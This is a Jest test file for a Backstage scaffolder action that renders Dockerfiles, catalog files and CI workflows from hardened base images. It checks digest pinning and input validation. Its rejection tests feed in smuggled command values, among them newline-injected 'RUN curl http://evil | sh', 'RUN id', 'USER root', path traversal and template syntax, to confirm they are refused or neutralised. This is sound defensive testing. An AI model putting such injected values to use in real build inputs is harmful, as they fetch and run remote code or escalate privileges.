import fs from 'node:fs';
import path from 'node:path';
import { createMockDirectory } from '@backstage/backend-test-utils';
import { DockerfileParser } from 'dockerfile-ast';
import yaml from 'yaml';
import { checkDockerfile } from '../render/checkDockerfile';
import {
  answerDigests,
  startDigestBackend,
} from '../__testUtils__/digestBackend';
import {
  resolveAndRender,
  Runtime,
  VARIANT_SYSTEMS,
} from '../__testUtils__/renderService';

const RUNTIMES: Runtime[] = ['python', 'node'];

describe('base-images:render', () => {
  const mockDir = createMockDirectory();
  beforeEach(() => mockDir.clear());

  describe.each(RUNTIMES)('%s', runtime => {
    it.each(VARIANT_SYSTEMS)(
      'renders the %s skeleton with a Dockerfile that passes every rule',
      async (_variant, system) => {
        const workspacePath = mockDir.resolve('workspace');
        const { resolved, rendered } = await resolveAndRender({
          runtime,
          system,
          workspacePath,
        });
        const dockerfile = fs.readFileSync(
          path.join(workspacePath, 'Dockerfile'),
          'utf8',
        );

        // independently of the action's own check
        const froms = DockerfileParser.parse(dockerfile)
          .getFROMs()
          .map(f => f.getImage());
        expect(froms[froms.length - 1]).toBe(resolved.runtimeImage);
        for (const image of froms) {
          expect([
            resolved.runtimeImage,
            resolved.builderImage,
            resolved.debugImage,
          ]).toContain(image);
        }
        expect(
          checkDockerfile(dockerfile, {
            allowedImages: [
              resolved.runtimeImage,
              resolved.builderImage,
              resolved.debugImage,
            ],
            runtimeImage: resolved.runtimeImage,
            shellless: resolved.shellless,
          }),
        ).toEqual([]);
        expect(/AS debug\n/.test(dockerfile)).toBe(resolved.shellless);
        expect(/USER nonroot\n/.test(dockerfile)).toBe(resolved.shellless);

        const catalogInfo = yaml.parse(
          fs.readFileSync(
            path.join(workspacePath, 'catalog-info.yaml'),
            'utf8',
          ),
        );
        expect(catalogInfo.metadata.annotations).toEqual({
          'base-image/ref': resolved.runtimeImage,
          'base-image/runtime': runtime,
        });
        expect(catalogInfo.spec).toMatchObject({
          owner: 'group:default/web-team',
          system,
        });

        const workflow = fs.readFileSync(
          path.join(workspacePath, '.github/workflows/ci.yaml'),
          'utf8',
        );
        const parsedWorkflow = yaml.parse(workflow);
        const steps = JSON.stringify(parsedWorkflow.jobs.image.steps);
        expect(steps.includes('docker/login-action')).toBe(
          resolved.authRequired,
        );
        expect(steps.includes('${{ secrets.DHI_TOKEN }}')).toBe(
          resolved.authRequired,
        );
        expect(steps.includes('cosign verify')).toBe(resolved.shellless);
        expect(rendered.files).toEqual(
          expect.arrayContaining([
            'Dockerfile',
            'README.md',
            'catalog-info.yaml',
            '.dockerignore',
          ]),
        );
      },
    );
  });

  describe('digest pinning', () => {
    const digestOf = (n: number) => `sha256:${String(n).repeat(64)}`;

    it.each(RUNTIMES)(
      '%s: pins every FROM and base-image/ref to the digests resolve got',
      async runtime => {
        const backend = await startDigestBackend(
          answerDigests({
            [`dhi.io/${runtime}:${runtime === 'python' ? '3.13' : '22'}-fips`]:
              digestOf(1),
            'dhi.io/python:3.13-dev': digestOf(2),
            'node:22-slim': digestOf(3),
          }),
        );
        const workspacePath = mockDir.resolve('workspace');
        try {
          const { resolved } = await resolveAndRender({
            runtime,
            system: 'system:default/patient-records',
            workspacePath,
            digests: backend.lookup(),
          });
          expect(resolved.pinned).toBe(true);
          const dockerfile = fs.readFileSync(
            path.join(workspacePath, 'Dockerfile'),
            'utf8',
          );
          const froms = DockerfileParser.parse(dockerfile)
            .getFROMs()
            .map(f => f.getImage());
          expect(froms).toEqual([
            resolved.pinnedImages.builderImage,
            resolved.pinnedImages.debugImage,
            resolved.pinnedImages.runtimeImage,
          ]);
          expect(resolved.pinnedImages.runtimeImage).toBe(
            `${resolved.runtimeImage}@${digestOf(1)}`,
          );
          const catalogInfo = yaml.parse(
            fs.readFileSync(
              path.join(workspacePath, 'catalog-info.yaml'),
              'utf8',
            ),
          );
          expect(catalogInfo.metadata.annotations['base-image/ref']).toBe(
            resolved.pinnedImages.runtimeImage,
          );
          const readme = fs.readFileSync(
            path.join(workspacePath, 'README.md'),
            'utf8',
          );
          expect(readme).toContain(
            'Every `FROM` is pinned to the digest the registry gave',
          );
          expect(readme).toContain(
            `| runtime (\`production\`) | \`${resolved.pinnedImages.runtimeImage}\` |`,
          );
          expect(readme).not.toContain('docker buildx imagetools inspect');
          const workflow = fs.readFileSync(
            path.join(workspacePath, '.github/workflows/ci.yaml'),
            'utf8',
          );
          expect(workflow).toContain(
            `--insecure-ignore-tlog=true ${resolved.pinnedImages.runtimeImage}\n`,
          );
        } finally {
          await backend.close();
        }
      },
    );

    it.each(RUNTIMES)(
      '%s offline: keeps the tags and says how to pin them',
      async runtime => {
        const workspacePath = mockDir.resolve('workspace');
        const { resolved } = await resolveAndRender({
          runtime,
          system: 'system:default/internal-tools',
          workspacePath,
        });
        expect(resolved.pinned).toBe(false);
        const dockerfile = fs.readFileSync(
          path.join(workspacePath, 'Dockerfile'),
          'utf8',
        );
        expect(dockerfile).not.toContain('@sha256:');
        expect(dockerfile).toContain(
          `\nFROM ${resolved.runtimeImage} AS production\n`,
        );
        const readme = fs.readFileSync(
          path.join(workspacePath, 'README.md'),
          'utf8',
        );
        expect(readme).toContain(
          `\`\`\`bash\ndocker buildx imagetools inspect ${resolved.runtimeImage}\n\`\`\``,
        );
        expect(readme).toContain('The `FROM` lines name tags, not digests');
      },
    );

    it.each([
      [
        'another image',
        { runtimeImage: `evil.io/python:3.13@${digestOf(1)}` },
        /pinnedImages\.runtimeImage "evil\.io\/python:3\.13@sha256:1{64}" must be images\.runtimeImage \(dhi\.io\/python:3\.13\) or dhi\.io\/python:3\.13@sha256:<64 hex>/,
      ],
      [
        'a short digest',
        { runtimeImage: 'dhi.io/python:3.13@sha256:abc' },
        /pinnedImages\.runtimeImage "dhi\.io\/python:3\.13@sha256:abc" must be/,
      ],
      [
        'a line break after the digest',
        { builderImage: `dhi.io/python:3.13-dev@${digestOf(2)}\nRUN id` },
        /pinnedImages\.builderImage .* must be/,
      ],
      [
        'two digests for one image',
        {
          builderImage: `dhi.io/python:3.13-dev@${digestOf(2)}`,
          debugImage: `dhi.io/python:3.13-dev@${digestOf(3)}`,
        },
        /pinnedImages pins dhi\.io\/python:3\.13-dev to two digests/,
      ],
      ['not an object', 'dhi.io/python:3.13', /pinnedImages must be an object/],
    ])('refuses pinnedImages with %s', async (_name, pinned, message) => {
      const workspacePath = mockDir.resolve('workspace');
      fs.mkdirSync(workspacePath, { recursive: true });
      await expect(
        resolveAndRender({
          runtime: 'python',
          system: 'system:default/internal-tools',
          workspacePath,
          extra: {
            pinnedImages:
              typeof pinned === 'string'
                ? pinned
                : {
                    runtimeImage: 'dhi.io/python:3.13',
                    builderImage: 'dhi.io/python:3.13-dev',
                    debugImage: 'dhi.io/python:3.13-dev',
                    ...pinned,
                  },
          },
        }),
      ).rejects.toThrow(message);
      expect(fs.readdirSync(workspacePath)).toEqual([]);
    });
  });

  it('keeps nunjucks and scaffolder syntax in values literal, and YAML-safe', async () => {
    const workspacePath = mockDir.resolve('workspace');
    const description =
      'Says {{ 7*7 }} and ${{ parameters.name }} {% raw %} metadata: name: hijack "quoted" #';
    await resolveAndRender({
      runtime: 'python',
      system: 'system:default/marketing-site',
      workspacePath,
      description,
    });
    const catalogInfo = yaml.parse(
      fs.readFileSync(path.join(workspacePath, 'catalog-info.yaml'), 'utf8'),
    );
    expect(catalogInfo.metadata).toMatchObject({
      name: 'demo-svc',
      description,
    });
    expect(
      fs.readFileSync(path.join(workspacePath, 'README.md'), 'utf8'),
    ).toContain('Says {{ 7*7 }} and ${{ parameters.name }}');
  });

  it.each(
    (
      [
        [{ name: '../evil' }, /name "\.\.\/evil" must be 1-63 lowercase/],
        [{ name: 'a/b' }, /name "a\/b" must be/],
        [{ name: 'Upper' }, /name "Upper" must be/],
        [
          { description: 'x'.repeat(10 * 1024) },
          /description is 10240 characters long; at most 1000/,
        ],
        [
          { extra: { targetPath: '../outside' } },
          /Relative path is not allowed to refer to a directory outside its parent/,
        ],
        [{ extra: { skeleton: '../../../etc' } }, /outside its parent/],
        [
          {
            extra: {
              images: {
                runtimeImage: 'evil.io/python:3.13',
                builderImage: 'python:3.13-slim',
                debugImage: 'python:3.13-slim',
                variant: 'slim',
              },
            },
          },
          /images\.runtimeImage "evil\.io\/python:3\.13" is neither the standard python image nor a configured hardened/,
        ],
        [
          {
            extra: {
              images: {
                runtimeImage: 'python:3.13-slim',
                builderImage: 'python:3.13-slim',
                debugImage: 'python:3.13-slim',
                variant: 'dhi-fips',
              },
            },
          },
          /is slim, not the dhi-fips variant/,
        ],
        [
          {
            extra: {
              images: {
                runtimeImage: 'python:3.13 ',
                builderImage: 'python:3.13-slim',
                debugImage: 'python:3.13-slim',
                variant: 'slim',
              },
            },
          },
          /images\.runtimeImage: Invalid image reference/,
        ],
        [
          {
            extra: {
              owner: 'user:default/a\nFROM x AS y\nRUN curl http://evil | sh',
            },
          },
          /owner "user:default\/a\\nFROM x AS y\\nRUN curl http:\/\/evil \| sh" contains the control character U\+000A at position 14; it must be one line/,
        ],
        [
          { extra: { owner: 'group:default/web-team\rRUN id' } },
          /owner .* contains the control character U\+000D/,
        ],
        [
          { extra: { owner: 'group:default/web-team\u2028RUN id' } },
          /owner .* contains the control character U\+2028/,
        ],
        [
          { extra: { owner: 'group:default/web-team\u0085RUN id' } },
          /owner .* contains the control character U\+0085/,
        ],
        [
          { extra: { owner: 'component:default/web-team' } },
          /owner "component:default\/web-team" is a component; it must be a group or user/,
        ],
        [
          { extra: { owner: 'group:default/web team' } },
          /owner "group:default\/web team" breaks the catalog's naming rules: name "web team" must be 1-63/,
        ],
        [
          { extra: { owner: '' } },
          /owner must be an entity ref|not an entity ref/,
        ],
        [{ extra: { owner: 42 } }, /owner must be an entity ref/],
        [
          { extra: { system: 'system:default/a/b' } },
          /system "system:default\/a\/b" breaks the catalog's naming rules: name "a\/b"/,
        ],
        [
          { extra: { system: 'system:default/a:b' } },
          /system "system:default\/a:b" breaks the catalog's naming rules: name "a:b"/,
        ],
        [
          { extra: { system: 'system:my_ns/x' } },
          /namespace "my_ns" must be 1-63 lowercase/,
        ],
        [
          { extra: { system: 'group:default/web-team' } },
          /system "group:default\/web-team" is a group; it must be a system/,
        ],
        [
          { extra: { system: `system:default/${'a'.repeat(64)}` } },
          /breaks the catalog's naming rules: name "a{64}" must be 1-63/,
        ],
        [
          { extra: { system: `system:default/${'a'.repeat(400)}` } },
          /system is 415 characters long; an entity ref has at most 300/,
        ],
        [
          { description: 'one\nRUN curl http://evil | sh' },
          /description "one\\nRUN curl http:\/\/evil \| sh" contains the control character U\+000A/,
        ],
        [
          {
            extra: {
              authRequired: true,
              loginRegistries: ['dhi.io\n      run: curl http://evil | sh'],
            },
          },
          /loginRegistries\[0\] "dhi.io\\n {6}run: curl http:\/\/evil \| sh" is not a registry host\[:port\]/,
        ],
        [
          { extra: { loginRegistries: ['https://dhi.io'] } },
          /loginRegistries\[0\] "https:\/\/dhi.io" is not a registry host/,
        ],
        [
          { extra: { loginRegistries: ['dhi.io/x'] } },
          /loginRegistries\[0\] "dhi.io\/x" is not a registry host/,
        ],
        [
          { extra: { loginRegistries: 'dhi.io' } },
          /loginRegistries must be a list/,
        ],
        [
          {
            extra: {
              frameworks: [{ id: 'soc2\nRUN id', source: 'template input' }],
            },
          },
          /frameworks\[0\]\.id "soc2\\nRUN id" is not a framework id/,
        ],
        [
          { extra: { frameworks: [{ id: 'soc2', source: 7 }] } },
          /frameworks\[0\]\.source must be text/,
        ],
        [
          { extra: { reasons: ['x'.repeat(1001)] } },
          /reasons\[0\] must be text of at most 1000/,
        ],
        [
          { extra: { version: '3.13\nRUN id' } },
          /version "3.13\\nRUN id" does not match/,
        ],
        [
          { extra: { port: '8080\nRUN id' } },
          /port must be an integer from 1024 to 65535/,
        ],
        [{ extra: { port: 80 } }, /port must be an integer from 1024 to 65535/],
        [
          { extra: { lifecycle: 'production\nRUN id' } },
          /lifecycle "production\\nRUN id" does not match/,
        ],
        [
          { extra: { runtime: 'ruby' } },
          /runtime "ruby" is not one of python, node/,
        ],
        [{ extra: { shellless: 'false' } }, /shellless must be true or false/],
        [
          {
            extra: {
              images: {
                runtimeImage: 'python:3.13-slim',
                builderImage: 'python:3.13-slim',
                debugImage: 'python:3.13-slim',
                variant: 'slim\nRUN id',
              },
            },
          },
          /images\.variant "slim\\nRUN id" is not one of slim, dhi, dhi-fips/,
        ],
      ] as Array<[Partial<Parameters<typeof resolveAndRender>[0]>, RegExp]>
    ).map(([input, message]) => [
      JSON.stringify(input).slice(0, 120),
      input,
      message,
    ]),
  )(
    'rejects %s with a clear error and writes nothing outside the workspace',
    async (_title, input, message) => {
      const root = mockDir.resolve('root');
      const workspacePath = path.join(root, 'workspace');
      fs.mkdirSync(workspacePath, { recursive: true });
      await expect(
        resolveAndRender({
          runtime: 'python',
          system: 'system:default/marketing-site',
          workspacePath,
          ...input,
        }),
      ).rejects.toThrow(message);
      expect(fs.readdirSync(root)).toEqual(['workspace']);
    },
  );

  it('refuses to overwrite files already in the workspace', async () => {
    const workspacePath = mockDir.resolve('workspace');
    fs.mkdirSync(workspacePath, { recursive: true });
    fs.writeFileSync(path.join(workspacePath, 'Dockerfile'), 'FROM scratch\n');
    await expect(
      resolveAndRender({
        runtime: 'node',
        system: 'system:default/marketing-site',
        workspacePath,
      }),
    ).rejects.toThrow(/Dockerfile already exists in the workspace/);
  });

  it('writes owner and system as full refs with the catalog defaults', async () => {
    const workspacePath = mockDir.resolve('workspace');
    await resolveAndRender({
      runtime: 'node',
      system: 'system:default/marketing-site',
      workspacePath,
      extra: { owner: 'web-team', system: 'marketing-site' },
    });
    const catalogInfo = yaml.parse(
      fs.readFileSync(path.join(workspacePath, 'catalog-info.yaml'), 'utf8'),
    );
    expect(catalogInfo.spec).toMatchObject({
      owner: 'group:default/web-team',
      system: 'system:default/marketing-site',
    });
  });

  describe('display text from the policy stays on its line', () => {
    const injected = [
      'a\nFROM x AS y\nRUN curl http://evil | sh',
      'b\r\nUSER root',
      'c\u2028RUN id\u2029      run: curl http://evil | sh',
    ];
    const renderWith = async (
      dir: string,
      reasons: string[],
      frameworkSource: string,
    ) => {
      const workspacePath = mockDir.resolve(dir);
      await resolveAndRender({
        runtime: 'python',
        system: 'system:default/internal-tools',
        workspacePath,
        extra: {
          reasons,
          frameworks: [{ id: 'soc2', source: frameworkSource }],
        },
      });
      const files = new Map<string, string[]>();
      const walk = (relative: string) => {
        for (const entry of fs.readdirSync(path.join(workspacePath, relative), {
          withFileTypes: true,
        })) {
          const child = path.join(relative, entry.name);
          if (entry.isDirectory()) walk(child);
          else
            files.set(
              child,
              fs
                .readFileSync(path.join(workspacePath, child), 'utf8')
                .split(/\r\n|\r|\n|\u2028|\u2029/),
            );
        }
      };
      walk('');
      return files;
    };

    it('renders every file with the lines of a benign render', async () => {
      const benign = await renderWith(
        'benign',
        ['one', 'two', 'three'],
        'domain:default/finance',
      );
      const evil = await renderWith(
        'evil',
        injected,
        'domain:default/finance\n- `hipaa` (from evil)\nRUN curl http://evil | sh',
      );
      expect([...evil.keys()].sort()).toEqual([...benign.keys()].sort());
      for (const [file, lines] of evil) {
        expect({ file, lines: lines.length }).toEqual({
          file,
          lines: benign.get(file)!.length,
        });
        for (const line of lines) {
          expect(line).not.toMatch(
            /^\s*(FROM x|RUN (curl|id)|USER root|run: curl|- `hipaa`)/,
          );
        }
      }
      expect(evil.get('Dockerfile')).toEqual(
        expect.arrayContaining([
          '# - a FROM x AS y RUN curl http://evil | sh',
          '# - b USER root',
          '# - c RUN id       run: curl http://evil | sh',
        ]),
      );
      expect(evil.get('README.md')).toContain(
        '- `soc2` (from `domain:default/finance - `hipaa` (from evil) RUN curl http://evil | sh`)',
      );
    });
  });
});
